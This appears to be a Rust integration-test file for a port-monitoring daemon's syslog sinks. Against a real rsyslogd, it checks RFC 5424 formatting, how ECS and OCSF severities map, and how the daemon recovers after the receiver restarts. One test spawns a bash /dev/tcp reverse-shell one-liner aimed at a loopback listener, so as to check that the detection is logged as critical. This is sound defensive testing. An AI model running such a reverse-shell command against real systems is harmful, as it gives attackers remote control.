//! Syslog sinks against a real rsyslog (Debian's package) that the tests start on a private unix
//! socket and loopback UDP and TCP ports: records arrive parsed as RFC 5424 with the JSON intact,
//! in each sink's format; a receiver that stops costs only records its sink counts, and the
//! daemon keeps running and delivers again once it is back.
use std::{
    collections::BTreeMap,
    path::PathBuf,
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

use serde_json::Value;

use crate::harness::{Daemon, binds, record_kind, record_seq as seq};

/// One message as rsyslog parsed it.
#[derive(Debug)]
struct Received {
    version: String,
    facility: String,
    /// As rsyslog names it: crit, err, warning, info, ...
    severity: String,
    app: String,
    procid: String,
    msgid: String,
    structured_data: String,
    msg: Value,
}

struct Rsyslog {
    dir: PathBuf,
    child: Option<Child>,
    tcp: u16,
    udp: u16,
}

fn free_port(udp: bool) -> u16 {
    if udp {
        std::net::UdpSocket::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port()
    } else {
        std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port()
    }
}

impl Rsyslog {
    fn new(tag: &str) -> Self {
        let dir =
            std::env::temp_dir().join(format!("portwatch-rsyslog-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        let mut r = Self {
            dir,
            child: None,
            tcp: free_port(false),
            udp: free_port(true),
        };
        r.start();
        r
    }

    fn socket(&self) -> PathBuf {
        self.dir.join("log.sock")
    }

    fn received_path(&self) -> PathBuf {
        self.dir.join("received.log")
    }

    /// rsyslogd in the foreground with this test's inputs, once it takes connections.
    fn start(&mut self) {
        let conf = self.dir.join("rsyslog.conf");
        std::fs::write(
            &conf,
            format!(
                r#"global(workDirectory="{dir}" maxMessageSize="64k")
module(load="imuxsock" SysSock.Use="off")
module(load="imudp")
module(load="imtcp")
input(type="imuxsock" Socket="{sock}" UseSpecialParser="off" RateLimit.Interval="0")
input(type="imudp" address="127.0.0.1" port="{udp}" rcvbufSize="16m")
input(type="imtcp" address="127.0.0.1" port="{tcp}")
template(name="fields" type="string" string="%protocol-version%\t%syslogfacility-text%\t%syslogseverity-text%\t%app-name%\t%procid%\t%msgid%\t%structured-data%\t%msg%\n")
*.* action(type="omfile" file="{out}" template="fields" asyncWriting="off" flushOnTXEnd="on")
"#,
                dir = self.dir.display(),
                sock = self.socket().display(),
                udp = self.udp,
                tcp = self.tcp,
                out = self.received_path().display(),
            ),
        )
        .unwrap();
        let child = Command::new("rsyslogd")
            .arg("-n")
            .arg("-f")
            .arg(&conf)
            .arg("-i")
            .arg(self.dir.join("rsyslogd.pid"))
            .stdout(Stdio::null())
            .spawn()
            .expect("start rsyslogd (Debian's rsyslog package)");
        self.child = Some(child);
        let deadline = Instant::now() + Duration::from_secs(15);
        while !(self.socket().exists()
            && std::net::TcpStream::connect(("127.0.0.1", self.tcp)).is_ok())
        {
            assert!(
                Instant::now() < deadline,
                "rsyslogd did not open its inputs"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    /// SIGTERM, and its exit: it writes out what it received first.
    fn stop(&mut self) {
        if let Some(mut child) = self.child.take() {
            // SAFETY: signalling our own child.
            unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
            child.wait().unwrap();
        }
    }

    fn received(&self) -> Vec<Received> {
        let text = std::fs::read_to_string(self.received_path()).unwrap_or_default();
        text.lines()
            .map(|line| {
                let f: Vec<&str> = line.splitn(8, '\t').collect();
                assert_eq!(f.len(), 8, "rsyslog wrote {line}");
                Received {
                    version: f[0].into(),
                    facility: f[1].into(),
                    severity: f[2].into(),
                    app: f[3].into(),
                    procid: f[4].into(),
                    msgid: f[5].into(),
                    structured_data: f[6].into(),
                    msg: serde_json::from_str(f[7].trim_start())
                        .unwrap_or_else(|e| panic!("the JSON did not arrive intact ({e}): {line}")),
                }
            })
            .collect()
    }

    /// Waits (bounded) until `done` holds for what rsyslog wrote.
    fn wait_for(&self, what: &str, done: impl Fn(&[Received]) -> bool) -> Vec<Received> {
        let deadline = Instant::now() + Duration::from_secs(15);
        loop {
            let got = self.received();
            if done(&got) {
                return got;
            }
            assert!(
                Instant::now() < deadline,
                "rsyslog did not get {what}: {} messages",
                got.len()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

impl Drop for Rsyslog {
    fn drop(&mut self) {
        if let Some(mut c) = self.child.take() {
            let _ = c.kill();
            let _ = c.wait();
        }
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// Which sink a message came from, by its format (each sink of these tests has its own).
fn format_of(v: &Value) -> &'static str {
    if v["class_uid"].is_number() {
        "ocsf"
    } else if v["ecs"].is_object() {
        "ecs"
    } else {
        "native"
    }
}

fn by_format(received: &[Received]) -> BTreeMap<&'static str, Vec<&Received>> {
    let mut m: BTreeMap<_, Vec<_>> = BTreeMap::new();
    for r in received {
        m.entry(format_of(&r.msg)).or_default().push(r);
    }
    m
}

/// Returns once every record this thread caused has reached stdout: a marker socket's bind
/// and its close, the last record a socket makes.
fn quiet(d: &mut Daemon) {
    let marker = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = marker.local_addr().unwrap().port();
    drop(marker);
    let mine = crate::harness::our_close();
    d.expect("the marker's close", |v| mine(v) && v["port"] == port);
}

#[test]
fn records_arrive_as_rfc_5424_with_their_json_over_unix_udp_and_tcp() {
    let rsyslog = Rsyslog::new("formats");
    let unix = format!("syslog:unix:{}", rsyslog.socket().display());
    let udp = format!("syslog:udp://127.0.0.1:{},format=ecs", rsyslog.udp);
    let tcp = format!(
        "syslog:tcp://127.0.0.1:{},format=ocsf,facility=local3",
        rsyslog.tcp
    );
    let mut d = Daemon::start(&[
        "--output", "stdout", "--output", &unix, "--output", &udp, "--output", &tcp,
    ]);
    let pid = d.start_record()["pid"].to_string();
    binds(20);
    d.sync();
    let (status, stdout, _) = d.stop_with(libc::SIGINT);
    assert!(status.success());
    let got = rsyslog.wait_for("every record from the three sinks", |got| {
        let m = by_format(got);
        ["native", "ecs", "ocsf"].iter().all(|f| {
            m.get(f)
                .is_some_and(|v| v.iter().any(|r| record_kind(&r.msg) == "stop"))
        })
    });
    let expected: Vec<u64> = stdout.iter().map(seq).collect();
    for (format, messages) in by_format(&got) {
        let numbers: Vec<u64> = messages.iter().map(|r| seq(&r.msg)).collect();
        assert_eq!(
            numbers, expected,
            "{format}: the records, in order, each once"
        );
        for r in messages {
            assert_eq!(r.version, "1", "RFC 5424: {r:?}");
            assert_eq!(
                (r.app.as_str(), r.procid.as_str()),
                ("portwatch", pid.as_str())
            );
            assert_eq!(
                r.msgid,
                record_kind(&r.msg),
                "MSGID is the record kind: {r:?}"
            );
            assert_eq!(r.structured_data, "-");
            let facility = if format == "ocsf" { "local3" } else { "daemon" };
            assert_eq!(r.facility, facility, "{r:?}");
        }
    }
    crate::formats::check(
        "ocsf",
        &by_format(&got)["ocsf"]
            .iter()
            .map(|r| r.msg.clone())
            .collect::<Vec<_>>(),
    );
}

/// The syslog severity a native record must arrive at: its worst detection's (critical, high,
/// medium: crit, err, warning), warning for what must be looked at without one (a baseline
/// alert, lost events, a flood), else info.
fn native_severity(v: &Value) -> &'static str {
    let worst = v["detections"]
        .as_array()
        .into_iter()
        .flatten()
        .fold(0, |w, d| {
            w.max(match d["severity"].as_str() {
                Some("critical") => 3,
                Some("high") => 2,
                _ => 1,
            })
        });
    let kind = record_kind(v);
    let lost = kind == "loss" || kind == "flood" || v["lost_total"].as_u64().unwrap_or(0) > 0;
    match worst {
        3 => "crit",
        2 => "err",
        1 => "warning",
        _ if lost || v.get("alert").is_some() => "warning",
        _ => "info",
    }
}

/// OCSF's severity_id as syslog's.
fn ocsf_severity(v: &Value) -> &'static str {
    match v["severity_id"].as_u64() {
        Some(5) => "crit",
        Some(4) => "err",
        Some(3) => "warning",
        _ => "info",
    }
}

#[test]
fn a_reverse_shell_goes_to_syslog_at_critical_severity_in_every_format() {
    use std::io::Write;
    let rsyslog = Rsyslog::new("severity");
    let unix = format!("syslog:unix:{}", rsyslog.socket().display());
    let udp = format!("syslog:udp://127.0.0.1:{},format=ocsf", rsyslog.udp);
    let mut d = Daemon::start(&["--output", "stdout", "--output", &unix, "--output", &udp]);
    binds(3);
    // A reverse shell: bash connects back to this listener with its streams on the socket.
    let back = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let back_port = back.local_addr().unwrap().port();
    let mut outer = Command::new("bash")
        .args([
            "-c",
            &format!("bash --norc -i >& /dev/tcp/127.0.0.1/{back_port} 0>&1"),
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let (mut conn, _) = back.accept().unwrap();
    let exec = d.expect("the reverse shell's exec", |v| {
        v["event"] == "exec" && v["remote_port"] == back_port
    });
    conn.write_all(b"exit\n").unwrap();
    outer.wait().unwrap();
    assert_eq!(exec["detections"][0]["severity"], "critical", "{exec}");
    d.sync();
    let (status, _, _) = d.stop_with(libc::SIGINT);
    assert!(status.success());
    let got = rsyslog.wait_for("both sinks' stop records", |got| {
        let m = by_format(got);
        ["native", "ocsf"].iter().all(|f| {
            m.get(f)
                .is_some_and(|v| v.iter().any(|r| record_kind(&r.msg) == "stop"))
        })
    });
    let m = by_format(&got);
    for (format, messages) in &m {
        let shell = messages
            .iter()
            .find(|r| exec["seq"] == seq(&r.msg))
            .unwrap_or_else(|| panic!("{format}: the exec record did not arrive"));
        assert_eq!(shell.severity, "crit", "{format}: {shell:?}");
        for r in messages {
            let want = if *format == "ocsf" {
                ocsf_severity(&r.msg)
            } else {
                native_severity(&r.msg)
            };
            assert_eq!(r.severity, want, "{format}: {r:?}");
        }
        assert!(
            messages.iter().any(|r| r.severity == "info"),
            "{format}: ordinary records stay informational"
        );
    }
}

#[test]
fn a_receiver_that_stops_costs_only_counted_records_and_the_stream_goes_on() {
    let mut rsyslog = Rsyslog::new("restart");
    let unix = format!("syslog:unix:{}", rsyslog.socket().display());
    let tcp = format!("syslog:tcp://127.0.0.1:{},format=ocsf", rsyslog.tcp);
    // Only this test's records, and no other test's daemon meanwhile: a record from elsewhere
    // sent while rsyslog shuts down would be in flight, the one loss no sink can count.
    let _alone = crate::harness::exclusive();
    let me = std::process::id().to_string();
    let mut d = Daemon::start_alone(&[
        "--pid", &me, "--output", "stdout", "--output", &unix, "--output", &tcp,
    ]);
    binds(100);
    quiet(&mut d);
    // Nothing more on its way (a loss record, a late close).
    d.idle(Duration::from_millis(300));
    let sent = d.seen.len();
    rsyslog.wait_for("the first records from both sinks", |got| {
        by_format(got).values().all(|v| v.len() >= sent) && by_format(got).len() == 2
    });
    // Stopped while nothing is in flight: what it received, it wrote. (A receiver that dies
    // with records in its socket's buffers loses those unseen: plain syslog transports have no
    // acknowledgements. The README says so.)
    rsyslog.stop();
    // Sent while nothing receives: lost, and counted by each sink.
    binds(100);
    d.sync();
    d.expect_stderr("its records are dropped, and counted");
    rsyslog.start();
    // Both sinks reconnect (at most a second after a failure) and deliver again.
    let marker_seen = |got: &[Received], n: u64| {
        let m = by_format(got);
        m.len() == 2 && m.values().all(|v| v.iter().any(|r| seq(&r.msg) >= n))
    };
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        binds(1);
        d.sync();
        let last = seq(d.seen.last().unwrap());
        if marker_seen(&rsyslog.received(), last) {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the syslog sinks did not deliver again"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    let (status, stdout, _) = d.stop_with(libc::SIGINT);
    assert!(
        status.success(),
        "portwatch kept running through the receiver's absence"
    );
    let got = rsyslog.wait_for("both stop records", |got| {
        let m = by_format(got);
        m.len() == 2
            && m.values()
                .all(|v| v.iter().any(|r| record_kind(&r.msg) == "stop"))
    });
    let stop = stdout.last().unwrap();
    for (format, messages) in by_format(&got) {
        let last = &messages.last().unwrap().msg;
        assert_eq!(record_kind(last), "stop", "{format}: {last}");
        let counts = if format == "ocsf" {
            &last["unmapped"]["portwatch"]
        } else {
            last
        };
        let lost = counts["lost_total"].as_u64().unwrap();
        assert!(
            lost >= 100,
            "{format}: the records sent while it was down: {last}"
        );
        // Delivered + counted lost = numbered, in each sink's own stream.
        assert_eq!(
            seq(last) + 1,
            messages.len() as u64 + lost,
            "{format}: {last}"
        );
        let name = if format == "ocsf" { &tcp } else { &unix };
        let listed = stop["sinks"]
            .as_array()
            .unwrap()
            .iter()
            .find(|s| name.starts_with(s["sink"].as_str().unwrap()))
            .unwrap_or_else(|| panic!("{name} in {stop}"));
        assert_eq!(listed["dropped"], lost, "{stop}");
    }
    assert_eq!(stop["lost_total"], 0, "stdout lost nothing: {stop}");
}
